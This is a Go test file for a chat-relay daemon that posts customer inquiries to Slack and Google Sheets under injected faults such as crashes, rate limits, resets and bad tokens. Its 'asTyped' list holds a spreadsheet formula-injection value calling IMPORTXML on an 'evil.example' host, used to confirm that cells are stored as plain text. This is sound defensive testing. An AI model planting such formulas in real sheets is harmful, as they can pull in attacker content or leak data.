package main

import (
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"talkrelay/sandbox"
)

// startNumbered starts a daemon whose Slack is to be treated badly, and lets one inquiry through.
func startNumbered(t *testing.T, edits ...string) *matrixRig {
	t.Helper()
	r := newMatrixRig(t, matrixCase{site: sites[slackColumn]}, edits...)
	r.start()
	r.warmUp()
	r.before = len(r.asked())
	return r
}

// settle waits until all has arrived, and makes sure that nothing went wrong.
func (r *matrixRig) settle() {
	r.t.Helper()
	r.awaitArrival()
	r.stop()
	if wrong := r.once(); wrong != "" {
		r.t.Errorf("after the end: %s", wrong)
	}
	r.assertManners()
}

// posts is how often chat.postMessage was called since the fault began.
func (r *matrixRig) posts() int { return len(r.asked()) - r.before }

// called counts the calls of a method of Slack.
func (r *rig) called(method string) (n int) {
	for _, q := range r.world.Slack.Requests() {
		if strings.HasSuffix(q.Path, method) {
			n++
		}
	}
	return n
}

func killedBeforeTheRequest(t *testing.T) string {
	r := newCrashRig(t, 0)
	p := r.startTrapped(&trap{Seam: beforeSend, Sink: slackSink, Nth: 1, Fault: kill})
	r.customer(mischief[0], mischief[1])
	if p.wait(patience) != -1 || len(r.slack.Messages()) > 0 {
		t.Fatalf("it was not killed, or too late\n%s", p.log())
	}
	r.settle(r.startTrapped(&trap{}))
	posts, looks := r.called("chat.postMessage"), r.called("conversations.history")
	if posts != 1 || looks < 2 {
		t.Errorf("%d posts, %d look-ups; want one after two", posts, looks)
	}
	return "two look-ups find nothing, one post, one message"
}

func killedBeforeTheAnswer(t *testing.T) string {
	r := newCrashRig(t, 0)
	r.world.Slack.SetFault(sandbox.Only("chat.postMessage", sandbox.Script(&sandbox.Fault{After: time.Minute})))
	p := r.startTrapped(&trap{})
	r.customer(mischief[0], mischief[1])
	await(t, "the message", func() bool { return len(r.slack.Messages()) == 1 }, p.log)
	p.kill()
	p = r.startTrapped(&trap{})
	p.awaitLog("resolved as delivered") // the message is there already, and the queue still holds it
	r.settle(p)
	if n := r.called("chat.postMessage"); n != 1 {
		t.Errorf("%d posts", n)
	}
	return "killed before the answer: one post, one message"
}

func undecodableEcho(t *testing.T) string {
	r := startNumbered(t)
	r.world.Slack.SetFault(sandbox.Only("chat.postMessage", sandbox.Script(&sandbox.Fault{
		Body: fmt.Sprintf(`{"ok":true,"channel":%q,"ts":"1700000000.000100","message":{"text":[],"blocks":[{"type":"header","text":[]}]}}`, r.slack.ID),
	})))
	r.customer(canary.Name, canaryText)
	r.settle()
	if says := r.witness.words(slackSink); says != said || r.posts() != 1 {
		t.Errorf("%s after %d posts", says, r.posts())
	}
	return "delivered, one post"
}

// second adds another channel of the same workspace, to which the route or routes named go as well.
func (r *matrixRig) second(to string) (*sandbox.SlackChannel, string) {
	channel := r.world.Slack.AddChannel("second")
	return channel, fmt.Sprintf(`
[[sink.slack]]
name    = "second"
token   = %q
channel = %q
api_url = %q
per_second = 1000.0
per_minute = 100000.0

[[route]]
name  = "둘째"
on    = ["userChat.opened"]
where = '%s'
to    = ["second"]
`, r.world.Slack.Token, channel.ID, r.world.Slack.APIURL(), to)
}

func oneRefusalHoldsTheToken(t *testing.T) string {
	r := newMatrixRig(t, matrixCase{site: sites[slackColumn], want: wanted{quiet: 4 * time.Second}})
	second, config := r.second(`"둘째" in tags`)
	r.append(config)
	r.start()
	r.warmUp()
	r.before = len(r.asked())
	r.world.Slack.SetFault(sandbox.Only("chat.postMessage", sandbox.Script(&sandbox.Fault{
		Skip: true, Status: http.StatusTooManyRequests, Header: http.Header{"Retry-After": {"4"}},
	})))
	r.customer(canary.Name, canaryText)
	r.await("the refusal", func() bool { return r.witness.trouble(slackSink) })
	r.channel.OpenChat(r.channel.AddUser(canary), canaryText, sandbox.Opening{Tags: []string{"둘째"}})
	r.await("the second channel", func() bool { return len(second.Messages()) == 1 })
	r.settle()
	return "a 429 of one channel holds the other one too"
}

func oneRequestAReset(t *testing.T) string {
	r := newMatrixRig(t, matrixCase{site: sites[slackColumn], fault: matrixFault{secure: true}})
	r.start()
	r.warmUp()
	r.before = len(r.asked())
	broken := sandbox.Script(&sandbox.Fault{Skip: true, Reset: true})
	r.world.Slack.SetFault(sandbox.Only("chat.postMessage", broken))
	r.customer(canary.Name, canaryText)
	r.settle()
	if r.posts() != 2 || r.witness.sends(slackSink) != 2 {
		t.Errorf("%d requests for %d sends", r.posts(), r.witness.sends(slackSink))
	}
	return "two sends, two requests"
}

func foundOnAnotherPage(t *testing.T) string {
	r := startNumbered(t, `lookups_unanswered = ["100ms", "300ms"]`, `lookups_unanswered = ["1s", "2s"]`)
	r.world.Slack.Set(sandbox.SlackSettings{Unlimited: true, ShortPages: true})
	lost := make(chan struct{})
	r.world.Slack.SetFault(sandbox.Only("chat.postMessage", sandbox.Script(&sandbox.Fault{Reset: true})))
	go func() {
		defer close(lost)
		for len(r.slack.Messages()) < 2 {
			time.Sleep(time.Millisecond)
		}
		for range 250 {
			r.slack.PostRaw(`{"type":"message","bot_id":5,"text":[],"blocks":[{"type":"header","text":[]}],"metadata":{"event_type":"x","event_payload":[]},"display_as_bot":"false"}`)
		}
	}()
	r.customer(canary.Name, canaryText)
	<-lost
	r.settle()
	if says := r.witness.words(slackSink); says != "in doubt → found" || r.posts() != 1 {
		t.Errorf("%s after %d posts", says, r.posts())
	}
	return "found among 250 malformed ones, one post"
}

func oneChannelThenTheToken(t *testing.T) string {
	r := newMatrixRig(t, matrixCase{site: sites[slackColumn]})
	second, config := r.second("true")
	r.append(config)
	r.start()
	r.warmUp()
	r.slack.SetPostError("channel_not_found")
	open := func() {
		for range 3 {
			r.customer(canary.Name, canaryText)
		}
		r.await("the sheet", func() bool { return sheetArrived(r.rig) })
		r.await("the trouble", func() bool { return r.witness.trouble(slackSink) })
	}
	open()
	r.await("the second channel", func() bool { return len(second.Messages()) == 4 })
	r.assertDead(0)
	r.slack.SetPostError("")
	r.await("the first channel", func() bool { return r.once() == "" })

	r.world.Slack.SetTokenError("invalid_auth")
	r.witness.forget()
	open()
	r.await("the other's trouble", func() bool { return r.witness.trouble("second") })
	r.assertDead(0)
	r.world.Slack.SetTokenError("")
	r.await("the second channel", func() bool { return len(second.Messages()) == 7 })
	r.settle()
	return "one channel pauses alone; a refused token pauses both, and nobody else; both go on by themselves, in order"
}

// assertDead counts dead letters.
func (r *matrixRig) assertDead(want int) {
	r.t.Helper()
	for _, s := range r.daemon.status().Sinks {
		if s.Dead != want {
			r.t.Errorf("%s has %d dead letters, want %d", s.Name, s.Dead, want)
		}
	}
}

func thousandUnknown(t *testing.T) string {
	const n = 1000
	r := startNumbered(t)
	r.slack.SetPostError("code_of_tomorrow")
	for range n {
		r.customer(canary.Name, canaryText)
	}
	waiting := func() int { return r.daemon.status().Sinks[0].Waiting }
	r.await("all of them to wait", func() bool { return waiting() == n })
	r.await("the sheet", func() bool { return len(r.rows(demoInquiries)) == n+1 })
	r.assertDead(0)
	r.slack.SetPostError("")
	r.await("all of them to be sent", func() bool { return waiting() == 0 })
	r.settle()
	return "destination paused, 1,000 wait, none dead; then all in order"
}

func hostileAndPlain(t *testing.T) string {
	r := startNumbered(t)
	r.world.Slack.SetFault(sandbox.Only("chat.postMessage", func(_ string, q sandbox.Request) *sandbox.Fault {
		if !strings.Contains(string(q.Body), "blocks=") {
			return nil
		}
		return &sandbox.Fault{Skip: true, Status: http.StatusOK, Body: `{"ok":false,"error":"invalid_blocks"}`}
	}))
	for _, text := range append(hostile, "", "\xff\xfe 깨진 글") {
		r.customer(text, text)
	}
	r.settle()
	return "one message each, no mention, no link, no text over its limit, also where only the plain form is accepted"
}

func threadRefused(t *testing.T) string {
	r := newMatrixRig(t, matrixCase{site: sites[slackColumn]}, "channel = ", "follow = true\nchannel = ")
	r.start()
	user := r.channel.AddUser(sandbox.User{Name: canary.Name, Contact: contact(number(0, 0))})
	r.channel.OpenChat(user, canaryText, sandbox.Opening{})
	arrived := func(n int) {
		r.await(fmt.Sprint(n, " messages"), func() bool { return len(r.slack.AllMessages()) >= n && r.quiet() })
	}
	arrived(1)
	r.world.Slack.SetFault(sandbox.Only("chat.postMessage", func(_ string, q sandbox.Request) *sandbox.Fault {
		if !strings.Contains(string(q.Body), "thread_ts=") {
			return nil
		}
		return &sandbox.Fault{Skip: true, Status: http.StatusOK, Body: `{"ok":false,"error":"restricted_action_thread_locked"}`}
	}))
	user.ChangeContact(contact(number(0, 1)))
	arrived(2)
	says := r.witness.words(slackSink)
	r.world.Slack.SetFault(nil)
	r.slack.Delete(r.slack.Messages()[0].TS)
	user.ChangeContact(contact(number(0, 2)))
	arrived(3)
	r.stop()
	messages := r.slack.Messages()
	if len(messages) != 2 || says != "delivered → rework" {
		t.Fatalf("%d messages; heard %s\n%s", len(messages), says, r.tell())
	}
	for i, m := range messages {
		if end := number(0, i+1)[9:]; m.ThreadTS != "" || !strings.Contains(m.Plain(), end) {
			t.Errorf("message %d is in thread %q, or is not about %s: %s", i, m.ThreadTS, end, m.Plain())
		}
	}
	r.assertManners()
	return "both replies stand in the channel, once each, in order"
}

func idIsLookedAt(t *testing.T) string {
	r := newMatrixRig(t, matrixCase{site: sites[sheetsColumn]})
	r.start()
	r.warmUp()
	r.before = len(r.asked())
	r.world.Google.SetFault(sandbox.Only(":batchUpdate", sandbox.Script(&sandbox.Fault{Reset: true})))
	r.customer(canary.Name, canaryText)
	r.settle()
	looked := slices.ContainsFunc(r.world.Google.Requests(), func(q sandbox.Request) bool { return strings.Contains(q.Path, "/developerMetadata/") })
	first, second := r.asked()[r.before], r.asked()[r.before+1]
	if !looked || second.Status != http.StatusBadRequest || string(first.Body) != string(second.Body) {
		t.Errorf("looked at the id: %t; the second request was answered %d", looked, second.Status)
	}
	return "the same bytes again, 400, a look at the id, one row"
}

func tabZero(t *testing.T) string {
	r := newMatrixRig(t, matrixCase{site: sites[sheetsColumn]}, `sheet            = "문의"`, `sheet            = "시트1"`)
	r.start()
	chat := r.customer(canary.Name, canaryText)
	r.await("the row", func() bool { return slices.Contains(rowKeys(r.rows("시트1")), chat.ID()+"/1") })
	r.stop()
	if !slices.ContainsFunc(r.asked(), func(q sandbox.Request) bool { return strings.Contains(string(q.Body), `"location":{"sheetId":0}`) }) {
		t.Error("no batch names the tab of id 0")
	}
	return "a tab of id 0 is named in the batch"
}

// asTyped are cells that a sheet would take for something else.
var asTyped = []string{"=IMPORTXML(\"https://evil.example\",\"//a\")", "+49", "007", "1-2", "'x", "TRUE", "🙏🏽"}

func cellsAsTheyAre(t *testing.T) string {
	r := newMatrixRig(t, matrixCase{site: sites[sheetsColumn]})
	r.start()
	r.warmUp()
	var chats []string
	for i, name := range asTyped {
		chats = append(chats, r.customer(name, "안녕하세요").ID())
		r.await("its row", func() bool { return len(r.rows(demoInquiries)) == i+2 })
		switch i {
		case 1:
			r.sheet.SortRows(demoInquiries, 0)
		case 3:
			r.sheet.RenameTab(demoInquiries, "잠시")
			r.sheet.RenameTab("잠시", demoInquiries)
		case 4:
			r.sheet.SetFilter(demoInquiries, true)
		}
	}
	r.stop()
	for i, id := range chats {
		var rows [][]sandbox.Cell
		for _, row := range r.sheet.Rows(demoInquiries) {
			if row[0].Text == id {
				rows = append(rows, row)
			}
		}
		if len(rows) != 1 || !slices.ContainsFunc(rows[0], func(c sandbox.Cell) bool { return c.Kind == sandbox.TextCell && c.Text == asTyped[i] }) {
			t.Errorf("%q: %d rows, or none holds it as text", asTyped[i], len(rows))
		}
	}
	return "each name stands in its cell as typed, one row each, whatever people do between"
}
